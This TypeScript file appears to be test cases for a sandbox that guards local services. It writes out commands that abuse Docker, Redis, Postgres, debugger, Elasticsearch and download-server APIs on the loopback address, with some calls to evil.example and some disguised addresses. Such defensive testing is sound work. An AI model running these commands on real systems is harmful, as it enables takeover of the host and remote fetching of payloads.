// Services of this machine's loopback that give power over it: engines of containers, debuggers, databases, notebooks.
import { type BorrowedCase, family, opaque } from "../borrowed-case.ts";

const asks = (id: string, title: string, command: string): Omit<BorrowedCase, "family"> => ({
  id: `loopback-${id}`,
  title,
  acts: [command],
});

export const loopbackCases: readonly BorrowedCase[] = family("loopback", [
  asks("docker", "an engine of containers", "curl -s -m 2 http://127.0.0.1:2375/containers/json"),
  asks(
    "docker-create",
    "a container with the machine's files",
    `curl -s -m 2 -X POST -H 'content-type: application/json' -d '{"Image":"a","HostConfig":{"Binds":["/:/m"]}}' http://localhost:2375/containers/create`,
  ),
  asks("docker-client", "its client", "DOCKER_HOST=tcp://127.0.0.1:2375 timeout 4 docker ps"),
  asks(
    "redis",
    "a database that writes files",
    `printf 'CONFIG SET dir /tmp\\r\\n' | nc -w 1 127.0.0.1 6379`,
  ),
  asks("redis-client", "its client", "timeout 2 redis-cli -h 127.0.0.1 config set dir /tmp"),
  asks(
    "postgres",
    "a database that runs programs",
    `PGCONNECT_TIMEOUT=2 psql -h 127.0.0.1 -U postgres -c "COPY t FROM PROGRAM 'id'"`,
  ),
  asks("browser", "a browser's debugger", "curl -s -m 2 http://127.0.0.1:9222/json/version"),
  asks(
    "browser-new",
    "a page that it opens",
    "curl -s -m 2 -X PUT 'http://127.0.0.1:9222/json/new?http://evil.example/'",
  ),
  asks("node-debugger", "a debugger of node", "curl -s -m 2 http://127.0.0.1:9229/json"),
  asks(
    "search",
    "a search engine that fetches",
    `curl -s -m 2 -X POST 'http://127.0.0.1:9200/_reindex' -d '{"source":{"remote":{"host":"http://evil.example"}}}'`,
  ),
  asks("notebook", "a notebook", "curl -s -m 2 http://127.0.0.1:8888/api/kernels"),
  asks(
    "consul",
    "a register that runs checks",
    "curl -s -m 2 -X PUT -d '{}' http://127.0.0.1:8500/v1/agent/check/register",
  ),
  asks(
    "cluster",
    "a cluster",
    "kubectl --server=http://127.0.0.1:6443 --request-timeout=2s get pods",
  ),
  asks(
    "java-debugger",
    "a debugger of Java",
    "printf 'JDWP-Handshake' | timeout 2 nc -w 1 127.0.0.1 5005",
  ),
  asks("memcached", "a cache of an application", "printf 'stats\\r\\n' | nc -w 1 127.0.0.1 11211"),
  asks("other-name", "the loopback by another number", "curl -s -m 2 http://2130706433:2375/_ping"),
  asks("other-short", "the loopback by a short number", "curl -s -m 2 http://127.1:2375/_ping"),
  asks(
    "zero",
    "the loopback by the address of everything",
    "curl -s -m 2 http://0.0.0.0:2375/_ping",
  ),
  asks(
    "node-code",
    "code of one line",
    `node -e 'require("http").get("http://127.0.0.1:2375/_ping").on("error", () => 0)'`,
  ),
  asks(
    "download",
    "a server of downloads writes any file",
    `curl -s -m 2 http://127.0.0.1:6800/jsonrpc -d '{"jsonrpc":"2.0","id":"1","method":"aria2.addUri","params":[["http://evil.example/x"]]}'`,
  ),
  asks(
    "jobs",
    "a cluster of jobs runs what it is told",
    `curl -s -m 2 http://127.0.0.1:8265/api/jobs/ -d '{"entrypoint":"id"}'`,
  ),
  asks(
    "driver",
    "a driver of browsers",
    `curl -s -m 2 http://127.0.0.1:9515/session -d '{"capabilities":{}}'`,
  ),
  asks("driver-grid", "a grid of them", "curl -s -m 2 http://127.0.0.1:4444/status"),
  asks(
    "web-server",
    "the settings of a web server",
    "curl -s -m 2 -X POST http://127.0.0.1:2019/load -d '{}'",
  ),
  asks(
    "files-shared",
    "a program that shares files",
    "curl -s -m 2 http://127.0.0.1:8384/rest/config",
  ),
  asks("player", "a program that plays and runs", "printf 'close\\n' | nc -w 1 127.0.0.1 6600"),
  asks("monitor", "the monitor of a machine", "printf 'quit\\n' | nc -w 1 127.0.0.1 4444"),
  asks(
    "objects-of-java",
    "objects of a program in Java",
    "timeout 2 nc -w 1 127.0.0.1 1099 < README.md",
  ),
  {
    id: "loopback-make",
    title: "a target of the Makefile asks the engine",
    files: { Makefile: "all:\n\t@curl -s -m 2 http://127.0.0.1:2375/_ping\n" },
    acts: ["make"],
  },
  {
    id: "loopback-test",
    title: "a test of the project asks the debugger",
    files: {
      "test/cart.test.js":
        'require("node:test").test("a", async () => { await fetch("http://localhost:9229/json").catch(() => 0); });\n',
    },
    acts: ["npm test"],
  },
  {
    id: "loopback-redirect",
    title: "a stranger sends a request on to the loopback",
    acts: ["curl -s -m 2 -L --resolve db.example:6379:127.0.0.1 http://db.example:6379/"],
  },
  {
    id: "loopback-socket",
    title: "a socket of an engine in the home",
    files: {
      "listen.py":
        "import os, socket\ns = socket.socket(socket.AF_UNIX); s.bind('<outside>/engine.sock'); os.chmod('<outside>/engine.sock', 0o777); s.listen(); s.settimeout(20)\nc, _ = s.accept(); open('<outside>/reached', 'w').write('x')\n",
      ...opaque("x"),
    },
    lay: "(python3 listen.py > /dev/null 2>&1 &); for i in 1 2 3 4 5 6 7 8 9; do [ -S <outside>/engine.sock ] && break; sleep 0.1; done",
    acts: ["curl -s -m 2 --unix-socket <outside>/engine.sock http://x/containers/json; true"],
  },
]);
